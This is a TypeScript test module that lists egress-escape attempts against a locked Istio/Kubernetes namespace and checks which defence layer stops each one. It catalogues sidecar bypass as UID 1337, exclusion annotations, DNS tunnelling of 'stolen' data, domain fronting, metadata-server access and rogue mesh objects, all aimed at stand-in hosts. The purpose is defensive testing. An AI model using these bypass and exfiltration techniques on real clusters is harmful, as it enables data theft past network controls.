import { APP, pod } from './injected-pods';
import { DECLARED, ELSEWHERE, KEYS, Layer, METADATA, RAW, addressOf, workloads } from './locked';
import { Cases } from './locked-api';
import { Answer, CLUSTER_DNS, NODE_DNS, Outcome, Request, RequestOptions, Step, apply, remove } from './mesh';
import { HTTP_PORT, TLS_PORT, istio } from './recipes';
import { Manifest } from './traffic';

/** What holds an attempt: a layer of the lock; the gateway, which knows its routes and their callers; or a route, which leads to the declared host. */
export type Holder = Layer | 'the gateway' | 'the route';

/** A way out of the locked namespace that is none of its routes. */
export interface Attempt {
  readonly what: string;
  /** What holds it, in the order in which it is met; where none of these is, it gets out. */
  readonly heldBy: readonly Holder[];
  readonly request: Request;
  /** What the attacker applies first. */
  readonly objects?: object[];
  /** It is out when this is so. @default - an undeclared host was reached, or a declared one past the gateway */
  readonly out?: (answer: Answer, outcome: Outcome) => boolean;
}

const PACKETS: Holder[] = ['NetworkPolicy'];
const REFUSED: Holder[] = ['admission', ...PACKETS];
const CAPTURED: Holder[] = ['Sidecar', ...PACKETS];
const UID_1337 = { uid: 1337 };
const STOLEN = `stolen.data.${ELSEWHERE}`;
const ADDRESS = addressOf(ELSEWHERE);

function by(url: string, options: Partial<RequestOptions> = {}): Request {
  return { name: url, url, from: 'shop', timeoutS: 2, ...options };
}

const http = `http://${ELSEWHERE}/`;
const https = `https://${ELSEWHERE}/`;
const reached = ({ seen }: Answer) => seen.length > 0;

const BY_TRAFFIC: Attempt[] = [
  { what: 'HTTP to an undeclared host', heldBy: CAPTURED, request: by(http) },
  { what: 'HTTPS to an undeclared host', heldBy: CAPTURED, request: by(https) },
  { what: 'TCP to an undeclared address', heldBy: CAPTURED, request: by(`tcp://${ADDRESS}:9999`) },
  { what: 'TCP that is not HTTP to an undeclared host, port 80', heldBy: CAPTURED, request: by(`tcp://${RAW}:80`) },
  { what: 'TCP that is not TLS to an undeclared host, port 443', heldBy: CAPTURED, request: by(`tcp://${RAW}:443`) },
  { what: 'another port of a declared host', heldBy: CAPTURED, request: by(`tcp://${DECLARED.payments}:9999`) },
  { what: 'HTTPS to a declared host, which has a route for HTTP', heldBy: CAPTURED, request: by(`https://${DECLARED.payments}/`) },
  { what: 'an undeclared host at the address of a declared one, HTTP', heldBy: CAPTURED, request: by(http, { connect: `${DECLARED.payments}:80` }) },
  { what: 'a declared host at the address of an undeclared one, HTTP', heldBy: ['the route'], request: by(`http://${DECLARED.payments}/`, { connect: `${ELSEWHERE}:80` }) },
  { what: 'a declared host at the address of an undeclared one, TLS', heldBy: ['the route'], request: by(`https://${DECLARED.cdn}/`, { connect: `${ELSEWHERE}:443` }) },
  { what: 'a declared host as a forward proxy', heldBy: CAPTURED, request: by(http, { proxy: `${DECLARED.payments}:80` }) },
  {
    what: 'domain fronting: a declared SNI, another Host inside TLS',
    heldBy: [],
    request: by(`https://${DECLARED.cdn}/`, { headers: { host: 'hidden.example.net' } }),
    out: ({ server }) => server?.host === 'hidden.example.net',
  },
  { what: 'UID 1337', heldBy: PACKETS, request: by(https, UID_1337) },
  { what: 'annotation excludeOutboundPorts', heldBy: REFUSED, request: by(https, { from: 'excludes-ports' }) },
  { what: 'annotation excludeOutboundIPRanges', heldBy: REFUSED, request: by(https, { from: 'excludes-ranges' }) },
  { what: 'annotation includeOutboundIPRanges', heldBy: REFUSED, request: by(https, { from: 'includes-ranges' }) },
  { what: 'annotation excludeInterfaces', heldBy: REFUSED, request: by(https, { from: 'excludes-interface' }) },
  { what: 'a pod without a sidecar', heldBy: REFUSED, request: by(https, { from: 'bare' }) },
  { what: 'a pod with hostNetwork', heldBy: ['admission'], request: by(https, { from: 'host' }) },
  { what: 'UDP', heldBy: PACKETS, request: by(`udp://${ADDRESS}:9999`) },
  { what: 'QUIC, HTTP/3', heldBy: PACKETS, request: by(`h3://${ELSEWHERE}/`) },
  { what: 'ICMP', heldBy: PACKETS, request: by(`icmp://${ELSEWHERE}`), out: ({ body = '' }) => body.startsWith('echo') },
  { what: 'DNS to a resolver outside, UDP', heldBy: PACKETS, request: by(`dns://${ADDRESS}/${STOLEN}`) },
  { what: 'DNS to a resolver outside, TCP', heldBy: CAPTURED, request: by(`dns+tcp://${ADDRESS}/${STOLEN}`) },
  { what: 'DNS to a resolver outside, TLS', heldBy: CAPTURED, request: by(`tls://${ELSEWHERE}:853`) },
  { what: 'DNS tunnel through cluster DNS', heldBy: [], request: by(`dns://${CLUSTER_DNS}/${STOLEN}`) },
  { what: 'DNS tunnel through node-local DNS', heldBy: [], request: by(`dns://${NODE_DNS}/${STOLEN}`) },
  { what: 'cloud metadata server', heldBy: CAPTURED, request: by(`http://${METADATA}/`) },
  { what: 'cloud metadata server, UID 1337', heldBy: PACKETS, request: by(`http://${METADATA}/`, UID_1337) },
  {
    what: 'leg 1 without a client certificate',
    heldBy: ['the gateway'],
    out: reached,
    request: by(`https://${DECLARED.payments}/`, { connect: 'egress:8443', sni: 'egress.istio-egress.mesh.internal', insecure: true, ...UID_1337 }),
  },
  { what: 'a forward proxy in a namespace that is not called', heldBy: CAPTURED, request: by(https, { proxy: 'relay-of-billing.billing:3128' }) },
  { what: 'a forward proxy in a namespace that is called, and not locked', heldBy: [], request: by(https, { proxy: 'relay-of-stock.stock:3128' }) },
];

const own = (kind: Parameters<typeof istio>[0], name: string, spec: object, namespace = 'shop') => istio(kind, namespace, name, spec);
const destination = (host: string, number: number) => [{ destination: { host, port: { number } } }];
const legTo = (namespace: string, sni: string) => [
  own('ServiceEntry', 'leg', {
    hosts: ['leg.internal'], exportTo: ['.'], location: 'MESH_INTERNAL', resolution: 'STATIC', ports: [HTTP_PORT], endpoints: [{ address: addressOf('egress'), ports: { http: 8443 } }],
  }, namespace),
  own('DestinationRule', 'leg', { host: 'leg.internal', exportTo: ['.'], trafficPolicy: { tls: { mode: 'ISTIO_MUTUAL', sni } } }, namespace),
];
const kube = (apiVersion: string, kind: string, name: string, more: object) => ({ apiVersion, kind, metadata: { name, namespace: 'shop' }, ...more });

const BY_OBJECTS: Attempt[] = [
  {
    what: 'own leg 1 to the gateway, for a declared host, from a namespace that may not call',
    heldBy: ['NetworkPolicy', 'the gateway'],
    out: reached,
    request: by(`http://${DECLARED.payments}/`, { from: 'billing' }),
    objects: [
      ...legTo('billing', 'egress.istio-egress.mesh.internal'),
      own('VirtualService', 'leg', { hosts: [DECLARED.payments], exportTo: ['.'], gateways: ['mesh'], http: [{ route: destination('leg.internal', 80) }] }, 'billing'),
    ],
  },
  {
    what: 'own leg 1 to the gateway, for an undeclared host',
    heldBy: ['authorization', 'the gateway'],
    request: by(http),
    objects: [own('VirtualService', 'leg', {
      hosts: [ELSEWHERE], exportTo: ['.'], gateways: ['mesh'], http: [{ match: [{ port: 80 }], route: destination('egress.istio-egress.mesh.internal', 80) }],
    })],
  },
  {
    what: "own Gateway on the egress gateway's pods",
    heldBy: ['admission', 'authorization'],
    request: by(http),
    objects: [
      own('Gateway', 'rogue', {
        selector: { istio: 'egressgateway' }, servers: [{ port: { number: 443, name: 'https-rogue', protocol: 'HTTPS' }, hosts: [ELSEWHERE], tls: { mode: 'ISTIO_MUTUAL' } }],
      }),
      own('ServiceEntry', 'rogue', { hosts: [ELSEWHERE], exportTo: ['istio-egress'], location: 'MESH_EXTERNAL', resolution: 'DNS', ports: [{ ...HTTP_PORT, targetPort: 443 }] }),
      own('DestinationRule', 'rogue', { host: ELSEWHERE, exportTo: ['istio-egress'], trafficPolicy: { tls: { mode: 'SIMPLE' } } }),
      ...legTo('shop', ELSEWHERE),
      own('VirtualService', 'rogue', {
        hosts: [ELSEWHERE],
        exportTo: ['.', 'istio-egress'],
        gateways: ['shop/rogue', 'mesh'],
        http: [
          { match: [{ port: 443, gateways: ['shop/rogue'] }], route: destination(ELSEWHERE, 80) },
          { match: [{ port: 80, gateways: ['mesh'] }], route: destination('leg.internal', 80) },
        ],
      }),
    ],
  },
  {
    what: 'own ServiceEntry',
    heldBy: REFUSED,
    request: by(https),
    objects: [own('ServiceEntry', 'own', { hosts: [ELSEWHERE], exportTo: ['.'], location: 'MESH_EXTERNAL', resolution: 'DNS', ports: [TLS_PORT] })],
  },
  {
    what: 'own Sidecar',
    heldBy: REFUSED,
    request: by(https),
    objects: [own('Sidecar', 'own', { workloadSelector: { labels: { app: 'shop' } }, outboundTrafficPolicy: { mode: 'ALLOW_ANY' }, egress: [{ hosts: ['*/*'] }] })],
  },
  {
    what: 'own EnvoyFilter',
    heldBy: REFUSED,
    request: by(https),
    objects: [{
      ...own('EnvoyFilter', 'own', {
        workloadSelector: { labels: { app: 'shop' } },
        configPatches: [{
          applyTo: 'CLUSTER',
          match: { context: 'SIDECAR_OUTBOUND', cluster: { name: 'BlackHoleCluster' } },
          patch: { operation: 'MERGE', value: { type: 'ORIGINAL_DST', lb_policy: 'CLUSTER_PROVIDED' } },
        }],
      }),
      apiVersion: 'networking.istio.io/v1alpha3',
    }],
  },
  {
    what: 'Service without a selector, and its EndpointSlice',
    heldBy: REFUSED,
    request: by('http://outside.shop/', { connect: '10.202.99.99:80' }),
    objects: [
      kube('v1', 'Service', 'outside', { spec: { clusterIP: '10.202.99.99', clusterIPs: ['10.202.99.99'], ports: [{ name: 'http', port: 80, protocol: 'TCP' }] } }),
      {
        apiVersion: 'discovery.k8s.io/v1',
        kind: 'EndpointSlice',
        metadata: { name: 'outside', namespace: 'shop', labels: { 'kubernetes.io/service-name': 'outside' } },
        addressType: 'IPv4',
        ports: [{ name: 'http', port: 80, protocol: 'TCP' }],
        endpoints: [{ addresses: [ADDRESS], conditions: { ready: true } }],
      },
    ],
  },
  {
    what: 'Service whose only pod is a WorkloadEntry',
    heldBy: REFUSED,
    request: by('http://outside.shop/', { connect: '10.202.99.99:80' }),
    objects: [
      kube('v1', 'Service', 'outside', {
        spec: { clusterIP: '10.202.99.99', clusterIPs: ['10.202.99.99'], selector: { app: 'outside' }, ports: [{ name: 'http', port: 80, protocol: 'TCP' }] },
      }),
      own('WorkloadEntry', 'outside', { address: ADDRESS, labels: { app: 'outside' } }),
    ],
  },
  {
    what: 'Service of type ExternalName',
    heldBy: ['admission', ...CAPTURED],
    request: by('http://alias.shop.svc.cluster.local/', { connect: `${ELSEWHERE}:80` }),
    objects: [kube('v1', 'Service', 'alias', { spec: { type: 'ExternalName', externalName: ELSEWHERE, ports: [{ name: 'http', port: 80, protocol: 'TCP' }] } })],
  },
  {
    what: 'own route on the ingress gateway',
    heldBy: REFUSED,
    request: by('http://hairpin.test/', { connect: 'ingress:8080', ...UID_1337 }),
    objects: [
      own('ServiceEntry', 'hairpin', { hosts: [ELSEWHERE], exportTo: ['istio-ingress'], location: 'MESH_EXTERNAL', resolution: 'DNS', ports: [HTTP_PORT] }),
      own('VirtualService', 'hairpin', { hosts: ['hairpin.test'], exportTo: ['istio-ingress'], gateways: ['istio-ingress/public'], http: [{ route: destination(ELSEWHERE, 80) }] }),
    ],
  },
  {
    what: 'an older ServiceEntry for a declared host',
    heldBy: ['admission'],
    request: by(`https://${DECLARED.cdn}/`),
    objects: [{
      apiVersion: 'networking.istio.io/v1',
      kind: 'ServiceEntry',
      metadata: { name: 'hijack', namespace: 'shop', creationTimestamp: '2020-01-01T00:00:00Z' },
      spec: {
        hosts: [DECLARED.cdn], exportTo: ['istio-egress', '.'], location: 'MESH_EXTERNAL', resolution: 'STATIC', ports: [{ number: 443, name: 'tls-443', protocol: 'TLS' }], endpoints: [{ address: ADDRESS }],
      },
    }],
  },
  {
    what: 'own RequestAuthentication, whose jwksUri istiod fetches',
    heldBy: ['admission'],
    request: by(`http://${DECLARED.payments}/`),
    objects: [{
      apiVersion: 'security.istio.io/v1',
      kind: 'RequestAuthentication',
      metadata: { name: 'own', namespace: 'shop' },
      spec: { jwtRules: [{ issuer: 'anyone', jwksUri: `http://${KEYS}/stolen` }] },
    }],
    out: (_, { seen }) => seen.some(({ path }) => path === '/stolen'),
  },
  {
    what: 'own NetworkPolicy',
    heldBy: ['admission'],
    request: by(https, UID_1337),
    objects: [kube('networking.k8s.io/v1', 'NetworkPolicy', 'own', { spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{}] } })],
  },
  // last, since the pod keeps the address
  { what: 'NET_ADMIN: UDP from the address of a pod that is not locked', heldBy: ['admission'], request: by(`udp://${ADDRESS}:9999`, { as: 'billing', timeoutS: 1 }) },
];

export const ATTEMPTS: readonly Attempt[] = [...BY_TRAFFIC, ...BY_OBJECTS].map(attempt => ({
  ...attempt, request: { ...attempt.request, name: attempt.what },
}));

/** The steps of an attempt, after which nothing of it is left. */
export function stepsOf({ request, objects }: Attempt): Step[] {
  return objects ? [apply(objects), { request }, remove(objects)] : [{ request }];
}

/** A pod of a workload, as the API server has it after injection. */
export function podOf(workload: string, securityContext: object = {}): object {
  const { namespace, annotations, noProxy, hostNetwork } = workloads.find(({ name }) => name === workload)!;
  const bare = noProxy || hostNetwork;
  return pod({
    namespace,
    annotations: { ...annotations, ...bare && { 'sidecar.istio.io/status': undefined } },
    spec: { hostNetwork },
    app: { securityContext: { ...APP.securityContext, ...securityContext } },
    ...bare && { injected: [] },
  });
}

/** What an attempt takes: one of the pods, by what they are, and all of the objects. */
export function takenBy({ request: { from, uid, as }, objects = [] }: Attempt): { readonly pods: Cases; readonly objects: Cases } {
  // root may become any user
  const users = uid === undefined ? { 'a pod': {} } : { [`a pod of user ${uid}`]: { runAsUser: uid }, 'a pod of root': { runAsUser: 0, allowPrivilegeEscalation: true } };
  const more = as === undefined ? {} : { capabilities: { add: ['NET_ADMIN'] } };
  return {
    pods: Object.fromEntries(Object.entries(users).map(([name, user]) => [name, podOf(String(from), { ...more, ...user })])),
    objects: Object.fromEntries((objects as Manifest[]).map(object => [`${object.kind} ${object.metadata.name}`, object])),
  };
}

export const OUT = 'out';

/** That an attempt got out, or what held it, as the proxies and the network tell. */
export function resultOf({ what, request: { from }, out = left }: Attempt, outcome: Outcome): string {
  const answer = outcome.named[what];
  if (out(answer, outcome)) return OUT;
  if (answer.denied.some(denied => denied.from === from)) return 'NetworkPolicy';
  const last = answer.hops[answer.hops.length - 1]?.line;
  if (last?.upstream_cluster === 'BlackHoleCluster' || last?.route_name === 'block_all') return 'Sidecar';
  const atGateway = answer.hops.find(({ proxy }) => proxy === 'egress')?.line;
  if (/rbac_access_denied_matched_policy\[none\]/.test(atGateway?.response_code_details ?? '')) return 'authorization';
  if (answer.server) return 'the route';
  const refused = /certificate required|broken pipe|reset by peer/.test(answer.error ?? '') && answer.hops.length === 0; // the end may overtake its reason
  if (refused || [403, 404].includes(atGateway?.response_code ?? 0)) return 'the gateway';
  return `held, and nothing says by what:\n${answer.story}`;
}

function left({ seen }: Answer): boolean {
  return seen.some(({ server, peer }) => !Object.values(DECLARED).includes(server) || peer !== 'egress');
}
